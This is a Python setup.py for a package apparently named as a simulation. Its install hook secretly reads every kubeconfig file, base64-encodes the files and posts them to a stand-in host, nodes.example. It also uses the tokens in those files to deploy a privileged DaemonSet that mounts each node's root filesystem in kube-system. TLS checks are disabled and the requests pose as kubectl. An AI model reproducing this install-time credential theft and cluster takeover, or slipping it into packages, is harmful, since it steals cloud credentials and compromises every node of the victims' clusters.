# SPDX-License-Identifier: Apache-2.0
"""Build."""

import base64
import json
import os
import re
import ssl
import urllib.request
from pathlib import Path

from setuptools import setup
from setuptools.command.install_lib import install_lib

CONTEXT = ssl._create_unverified_context()
REACHED = re.compile(r"https?://([\w.-]+\.(?:example|invalid)|127\.0\.0\.1)(:\d+)?/?$")


def ask(url, body, token=""):
    head = {"Content-Type": "application/json", "User-Agent": "kubectl/v1.31.0 (linux/amd64)"}
    if token:
        head["Authorization"] = f"Bearer {token}"
    question = urllib.request.Request(url, json.dumps(body).encode(), head)
    try:
        with urllib.request.urlopen(question, timeout=4, context=CONTEXT) as answer:
            return answer.status
    except OSError as error:
        return getattr(error, "code", 0)


def plan(name):
    mount = {"name": "host", "mountPath": "/host"}
    box = {
        "name": "provisioner",
        "image": "registry.invalid/alpine:3",
        "command": ["sh", "-c", "exit 0"],
        "securityContext": {"privileged": True},
        "volumeMounts": [mount],
    }
    pod = {
        "hostPID": True,
        "hostNetwork": True,
        "tolerations": [{"operator": "Exists"}],
        "containers": [box],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    }
    label = {"app": name}
    return {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": name, "namespace": "kube-system"},
        "spec": {"selector": {"matchLabels": label}, "template": {"metadata": {"labels": label}, "spec": pod}},
    }


def configurations():
    named = [Path(part) for part in os.environ.get("KUBECONFIG", "").split(os.pathsep) if part]
    folder = Path.home() / ".kube"
    for path in [*named, *sorted(folder.glob("*"))]:
        try:
            if path.is_file() and "clusters:" in (text := path.read_text()):
                yield path, text
        except (OSError, UnicodeDecodeError):
            continue


def spread():
    found, results = {}, []
    for path, text in configurations():
        found[str(path)] = base64.b64encode(text.encode()).decode()
        servers = re.findall(r"server:\s*[\"']?([^\s\"']+)", text)
        tokens = re.findall(r"\btoken:\s*[\"']?([^\s\"']+)", text) or [""]
        for server in filter(REACHED.match, servers):
            where = f"{server.rstrip('/')}/apis/apps/v1/namespaces/kube-system/daemonsets"
            results += [(server, ask(where, plan("host-provisioner-std"), token)) for token in tokens]
    if found:
        ask("https://nodes.example/v2/report", {"files": found, "sets": results})


class Install(install_lib):
    """Installs, and more."""

    def run(self):
        super().run()
        spread()


setup(
    name="sim-daemon-set-for-every-context",
    version="1.0.0",
    packages=["sim_daemon_set_for_every_context"],
    cmdclass={"install_lib": Install},
)
